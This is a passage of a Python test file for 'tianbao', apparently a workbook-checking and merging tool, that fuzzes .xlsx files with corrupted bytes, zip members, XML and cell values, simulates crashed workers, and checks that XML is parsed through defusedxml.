    assert all(f["issues"] for f in report["files"] if f["status"] == "rejected")
    assert result.exit_code == 1


# --- fuzzing: mutations of a valid workbook, a fixed budget ---------------------------------------------
FUZZ_EXAMPLES = 40
FUZZ = settings(
    max_examples=FUZZ_EXAMPLES,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
ODD_TEXT = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "[/]",
    "[bold]x",
    "１２",
    "1,234",
    "—",
    "",
    "1e309",
    "NaN",
    "99999999999999999999",
    "&amp;",
    "&",
    "<",
    '"',
    "{x}",
    "表三",
    "veryHidden",
    "A1:XFD1048576",
    "'表三'!$D$7",
    "-",
]


class Mutants:
    """The mutants of one fuzz test: each is read as it is made (a verdict, never a traceback); then one
    `tianbao check` over all of them (JSON and readable) gives each a verdict with exit code 0 or 1."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        folder.mkdir()
        self.count = 0

    def add(self, data: bytes) -> None:
        self.count += 1
        path = self.folder / f"变异{self.count:03d}.xlsx"
        path.write_bytes(data)
        sub = read(path, roster=None)
        assert sub.readable or sub.has_errors
        assert all(i.code and i.message and i.severity in ("error", "warning") for i in sub.issues)

    def check(self) -> None:
        assert self.count >= FUZZ_EXAMPLES // 2
        result = cli("check", str(self.folder), "--json", "--jobs", "2", "--year", str(YEAR))
        files = json.loads(result.stdout)["files"]
        assert len(files) == self.count
        assert all(f["status"] in ("accepted", "accepted_with_warnings", "rejected") for f in files)
        assert result.exit_code == (1 if any(f["status"] == "rejected" for f in files) else 0)
        text = cli("check", str(self.folder), "--jobs", "2", "--year", str(YEAR))
        assert text.exit_code == result.exit_code and f"共检查 {self.count} 个文件（按文件计）" in text.stdout


@FUZZ
@given(
    flips=st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(1, 255)), min_size=1, max_size=6)
)
def _byte_flips(mutants: Mutants, data: bytes, flips: list[tuple[float, int]]) -> None:
    out = bytearray(data)
    for where, xor in flips:
        out[int(where * len(out))] ^= xor
    mutants.add(bytes(out))


def test_fuzz_byte_flips(valid: Path, tmp_path: Path) -> None:
    mutants = Mutants(tmp_path / "字节")
    _byte_flips(mutants, valid.read_bytes())
    mutants.check()


MEMBER_OPS = ("drop", "truncate", "empty", "garbage")


@FUZZ
@given(
    ops=st.lists(
        st.tuples(st.integers(0, 100), st.sampled_from(MEMBER_OPS), st.floats(0, 1)), min_size=1, max_size=3
    )
)
def _member_ops(mutants: Mutants, data: bytes, ops: list[tuple[int, str, float]]) -> None:
    items = members(data)
    for index, op, fraction in ops:
        if not items:
            break
        name = sorted(items)[index % len(items)]
        if op == "drop":
            del items[name]
        elif op == "truncate":
            items[name] = items[name][: int(len(items[name]) * fraction)]
        elif op == "empty":
            items[name] = b""
        else:
            items[name] = random.Random(index).randbytes(int(200 * fraction) + 1)
    mutants.add(pack(items))


def test_fuzz_members(valid: Path, tmp_path: Path) -> None:
    mutants = Mutants(tmp_path / "部件")
    _member_ops(mutants, valid.read_bytes())
    mutants.check()


XML_OPS = ("attribute", "remove", "text")
_ATTR = re.compile(rb'\b[\w:]+="([^"]*)"')
_LEAF = re.compile(rb"<([\w:]+)\b[^<>]*/>|<([\w:]+)\b[^<>]*>[^<]*</\2>")
_TEXT = re.compile(rb">([^<]+)<")


def _xml_edit(xml: bytes, op: str, index: int, text: str, escaped: bool) -> bytes:
    new = (xml_escape(text) if escaped else text).encode()
    pattern = {"attribute": _ATTR, "remove": _LEAF, "text": _TEXT}[op]
    found = list(pattern.finditer(xml))
    if not found:
        return xml
    m = found[index % len(found)]
    if op == "remove":
        return xml[: m.start()] + xml[m.end() :]
    return xml[: m.start(1)] + new + xml[m.end(1) :]


@FUZZ
@given(
    edits=st.lists(
        st.tuples(
            st.integers(0, 100),
            st.sampled_from(XML_OPS),
            st.integers(0, 10**6),
            st.one_of(st.sampled_from(ODD_TEXT), st.text(max_size=12)),
            st.booleans(),
        ),
        min_size=1,
        max_size=4,
    )
)
def _xml_edits(mutants: Mutants, data: bytes, edits: list[tuple[int, str, int, str, bool]]) -> None:
    items = members(data)
    xml = sorted(n for n in items if n.endswith((".xml", ".rels")))
    for member, op, index, text, escaped in edits:
        name = xml[member % len(xml)]
        items[name] = _xml_edit(items[name], op, index, text, escaped)
    mutants.add(pack(items))


def test_fuzz_xml_edits(valid: Path, tmp_path: Path) -> None:
    mutants = Mutants(tmp_path / "XML")
    _xml_edits(mutants, valid.read_bytes())
    mutants.check()


SHEET_PARTS = {
    "表二": fx.sheet_part("表二"),
    "表三": fx.sheet_part("表三"),
    "表四": fx.sheet_part("表四"),
}


@dataclass(frozen=True)
class Raw:
    """A number cell's `<v>` text as a hostile file may store it (no spreadsheet writes these)."""

    text: str


RAW_NUMBERS = [
    "1E+25",
    "1e308",
    "1e999",
    "9" * 400,
    "9" * 5000,
    "NaN",
    "-INF",
    "Infinity",
    "-0",
    "5e-324",
    "0x10",
]


@FUZZ
@given(
    values=st.dictionaries(
        st.sampled_from(sorted(SPEC.input_ids)),
        st.one_of(
            st.sampled_from(ODD_TEXT),
            st.text(max_size=8),
            st.integers(-(10**20), 10**20),
            st.floats(),
            st.sampled_from(RAW_NUMBERS).map(Raw),
        ),
        max_size=6,
    )
)
def _typed_values(mutants: Mutants, data: bytes, values: dict[str, Any]) -> None:
    from tianbao.spec.layout import a1, cell_boxes

    items = members(data)
    boxes = cell_boxes(SPEC)
    for cell_id, value in values.items():
        sheet, box = boxes[cell_id]
        ref = a1(box.row, box.col).encode()
        if isinstance(value, str):
            cell = b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, xml_escape(value).encode())
        elif isinstance(value, Raw):
            cell = b'<c r="%s"><v>%s</v></c>' % (ref, value.text.encode())
        else:
            cell = b'<c r="%s"><v>%s</v></c>' % (ref, repr(value).encode())
        pattern = re.compile(rb'<c r="' + ref + rb'"[^>]*?(/>|>.*?</c>)')
        part = SHEET_PARTS[sheet]
        items[part] = pattern.sub(cell.replace(b"\\", b"\\\\"), items[part], count=1)
    mutants.add(pack(items))


def test_fuzz_typed_values(valid: Path, tmp_path: Path) -> None:
    """Whatever a person types into the input cells: a verdict, never a traceback."""
    mutants = Mutants(tmp_path / "数值")
    _typed_values(mutants, valid.read_bytes())
    mutants.check()


COUNT, AMOUNT = "t2.licensing.decisions", "t2.fees.amount_wan"  # cells no rule ties to others
COUNTS = st.one_of(
    st.integers(0, 10**10 + 10),
    st.integers(0, 10**10 + 10).map(lambda n: f"{n:,}"),  # as text, with thousands separators
    st.sampled_from([9_999_999_999, 10**10, "9,999,999,999", "１２", "1E+25", 0.5, None]),
)
AMOUNTS = st.one_of(
    st.floats(0, 1e7 + 1),
    st.decimals(0, 10**7, places=4).map(str),
    st.sampled_from([9_999_999.9999, 0.0001, 5e-324, 1e7, "9999999.9999", None]),
)


@settings(FUZZ, max_examples=8)
@given(typed=st.lists(st.tuples(COUNTS, AMOUNTS), min_size=3, max_size=3))
def _merged_exactly(folder: Path, templates: list[Path], typed: list[tuple[Any, Any]]) -> None:
    """Three units' files with values at and beyond the domain's edges: merge totals whatever it accepts
    exactly (the nearest double to the decimal sum of the values as read), writes a well-formed workbook,
    and reading that workbook back gives the same totals."""
    from decimal import Decimal, localcontext

    from tianbao.consolidation import merge_files, write_consolidated
    from tianbao.filling import fill_template

    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    paths = []
    for template, (c, a) in zip(templates, typed, strict=True):
        paths.append(folder / template.name)
        fill_template(template, {**fx.valid_values(SPEC), COUNT: c, AMOUNT: a}, paths[-1])
    merged = merge_files(paths, CheckOptions(year=YEAR, jobs=1), unit_code="150723", unit_name="鄂伦春自治旗")
    with localcontext() as ctx:
        ctx.prec = 60
        for cell_id in (COUNT, AMOUNT):
            exact = sum((Decimal(repr(m.values.get(cell_id, 0.0))) for m in merged.members), Decimal(0))
            assert merged.totals[cell_id] == float(exact), (cell_id, typed)
    out = folder / "汇总" / "汇总.xlsx"
    out.parent.mkdir(exist_ok=True)
    write_consolidated(merged, out)
    assert_well_formed(out)
    again = read(out, roster=None)
    assert not again.has_errors, [i.message for i in again.issues]
    assert again.values[COUNT] == merged.totals[COUNT] and again.values[AMOUNT] == merged.totals[AMOUNT]


def test_fuzz_merge_totals_what_it_accepts_exactly(tmp_path: Path) -> None:
    from tianbao.template import TemplateOptions, write_template

    templates = []
    for unit in (fx.UNIT, fx.OTHER, fx.THIRD):
        templates.append(tmp_path / f"{unit.code}.xlsx")
        write_template(SPEC, templates[-1], TemplateOptions(year=YEAR, unit=unit))
    _merged_exactly(tmp_path / "三个单位", templates)


NAME = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=30)
FILE_NAME = (
    st.binary(min_size=1, max_size=24)
    .filter(lambda b: b"/" not in b and b"\0" not in b)
    .map(lambda b: os.fsdecode(b.strip(b".") or b"_") + ".xlsx")
)  # any bytes: on Linux the undecodable come as surrogate escapes


@settings(FUZZ, max_examples=8)
@given(unit_name=NAME, county=NAME, file_name=FILE_NAME)
def _any_names(folder: Path, unit_name: str, county: str, file_name: str) -> None:
    """Whatever a roster, a file name or --unit-name holds: template and merge write well-formed workbooks
    (or say in Chinese why not: a name too long, blank once cleaned), never a traceback."""
    from tianbao.errors import RosterError
    from tianbao.roster import Unit, load_roster, write_roster

    shutil.rmtree(folder, ignore_errors=True)
    (folder / "回收").mkdir(parents=True)
    roster_path = write_roster(folder / "名单.csv", [Unit("150723107", unit_name, "乡镇", "150723", 2)])
    try:
        unit = next(iter(load_roster(roster_path)))
    except RosterError:
        return  # a name that is blank once cleaned, or too long: said in Chinese (tests/test_hostile_inputs.py)
    made = cli("template", "--year", str(YEAR), "--roster", str(roster_path), "-o", str(folder / "模板"))
    assert made.exit_code == 0, made.output
    for template in (folder / "模板").iterdir():
        assert_well_formed(template)
    fx.filled(folder / "回收" / file_name, unit=unit)
    out = folder / "汇总.xlsx"
    result = cli(
        "merge", str(folder / "回收"), "--year", str(YEAR), "--roster", str(roster_path),
        "--unit", "150723", "--unit-name", county, "-o", str(out), "-j", "1",
    )  # fmt: skip
    if result.exit_code == 2:  # a --unit-name too long or blank
        assert result.output.startswith("错误：") and not out.exists()
        return
    assert result.exit_code == 0, result.output
    assert_well_formed(out)


def test_fuzz_names_in_every_output(tmp_path: Path) -> None:
    _any_names(tmp_path / "名称")


# --- one bad file never stops the others -----------------------------------------------------------------
_REAL_READ_ONE = run_module._read_one


def _crashing_read_one(args: Any) -> Submission:
    """Stands in for the worker's reader (via monkeypatch): dies on 崩溃*, runs out of memory on 内存*."""
    name = Path(args[0]).name
    if name.startswith("崩溃"):
        os._exit(70)  # as a segfault in native code would: no exception, no clean-up
    if name.startswith("内存"):
        raise MemoryError("simulated")
    return _REAL_READ_ONE(args)


@pytest.fixture
def crashing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(run_module, "_read_one", _crashing_read_one)


def _crash_folder(folder: Path, valid: Path) -> None:
    folder.mkdir()
    for i in range(10):
        (folder / f"报表{i:02d}.xlsx").write_bytes(valid.read_bytes())
    for name in ("崩溃A.xlsx", "崩溃B.xlsx", "内存.xlsx"):
        (folder / name).write_bytes(valid.read_bytes())
    (folder / "空文件.xlsx").write_bytes(b"")


@pytest.mark.usefixtures("crashing")
def test_a_crashed_worker_is_contained(tmp_path: Path, valid: Path) -> None:
    _crash_folder(tmp_path / "回收", valid)
    run = check_files([tmp_path / "回收"], CheckOptions(year=YEAR, jobs=2))
    got = {Path(f.path).name: f for f in run.report.files}
    assert len(got) == 14
    for name in ("崩溃A.xlsx", "崩溃B.xlsx"):
        assert [i.code for i in got[name].issues] == ["reader-crashed"]
        assert got[name].issues[0].message == (
            "读取本文件的进程异常退出（进程意外终止，可能是内存不足或读取组件崩溃），未能读取；其他文件不受影响。"
        )
        assert got[name].submission.sha256 == got["报表00.xlsx"].submission.sha256
    assert got["内存.xlsx"].issues[0].message.startswith("读取本文件的进程异常退出（内存不足）")
    assert [i.code for i in got["空文件.xlsx"].issues] == ["file-empty"]
    assert all(got[f"报表{i:02d}.xlsx"].status == "accepted" for i in range(10))
    assert len(run.validated.submissions) == 10


@pytest.mark.usefixtures("crashing")
def test_a_crashed_worker_through_the_cli(tmp_path: Path, valid: Path) -> None:
    _crash_folder(tmp_path / "回收", valid)
    result = cli("check", str(tmp_path / "回收"), "--json", "--jobs", "2", "--year", str(YEAR))
    assert result.exit_code == 1
    status = {Path(f["path"]).name: f["status"] for f in json.loads(result.stdout)["files"]}
    assert [n for n, s in sorted(status.items()) if s == "rejected"] == [
        "内存.xlsx",
        "崩溃A.xlsx",
        "崩溃B.xlsx",
        "空文件.xlsx",
    ]


def test_memory_error_in_the_reader_is_a_verdict(valid: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tianbao.reading.openpyxl_backend import OpenpyxlBackend

    def exhausted(*args: Any, **kwargs: Any) -> Any:
        raise MemoryError

    monkeypatch.setattr(OpenpyxlBackend, "read", exhausted)
    sub = read(valid, backend=OpenpyxlBackend())
    assert codes(sub) == ["unsafe-workbook"] and "内存不足" in sub.issues[0].message


@pytest.mark.usefixtures("crashing")
def test_a_crash_among_many_files_costs_little(
    tmp_path: Path, valid: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Files travel to the workers in batches; after a crash only the few files in flight when a worker died
    are read one by one, each in a process of its own (counted, not timed: the machine may be loaded)."""
    folder = tmp_path / "回收"
    folder.mkdir()
    for i in range(150):
        (folder / f"报表{i:03d}.xlsx").write_bytes(valid.read_bytes())
    for name in ("崩溃1.xlsx", "崩溃2.xlsx"):
        (folder / name).write_bytes(valid.read_bytes())
    alone: list[Any] = []
    real_alone = pool_module._alone

    def counted(func: Any, item: Any, *args: Any) -> Any:
        alone.append(item)
        return real_alone(func, item, *args)

    monkeypatch.setattr(pool_module, "_alone", counted)
    jobs = 2
    run = check_files([folder], CheckOptions(year=YEAR, jobs=jobs))
    status = {Path(f.path).name: f.status for f in run.report.files}
    assert [n for n, s in status.items() if s == "rejected"] == ["崩溃1.xlsx", "崩溃2.xlsx"]
    assert sum(s == "accepted" for s in status.values()) == 150
    # Each crash loses at most the files in flight in a pool of single-file tasks.
    assert 2 <= len(alone) <= 2 * jobs * pool_module.IN_FLIGHT, len(alone)


def test_merge_takes_the_same_limits(valid: Path, tmp_path: Path) -> None:
    out = tmp_path / "汇总.xlsx"
    args = [
        "merge",
        str(valid),
        "--year",
        str(YEAR),
        "--unit",
        "150723",
        "--unit-name",
        "鄂伦春自治旗",
        "-o",
        str(out),
        "-j",
        "1",
    ]
    refused = cli(*args, "--max-file-size", "10KB")
    assert refused.exit_code == 1 and "文件大小" in refused.stdout and "--max-file-size" in refused.stdout
    assert cli(*args, "--max-cells", "5000").exit_code == 0


def test_openpyxl_parses_without_lxml_whatever_is_installed() -> None:
    """python-docx brings lxml, on which openpyxl would read a DOCTYPE instead of refusing it: tianbao makes
    openpyxl use the standard library's parser (through defusedxml), in every process that imports it first,
    and the reference reader refuses to run on lxml."""
    import subprocess

    code = (
        "import tianbao, openpyxl.xml, lxml; from openpyxl.xml import functions as f; "
        "print(openpyxl.xml.LXML, f.fromstring.__module__)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.split() == ["False", "defusedxml.common"]
    code = (
        "import openpyxl, tianbao; from tianbao.reading.openpyxl_backend import OpenpyxlBackend\n"
        "try:\n    OpenpyxlBackend().read('x.xlsx', {})\nexcept RuntimeError as e:\n    print('refused')"
    )
    env = {**os.environ, "OPENPYXL_LXML": "True"}
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=env, check=True
    ).stdout
    assert out.strip() == "refused"  # openpyxl imported first, on lxml: the reference reader refuses
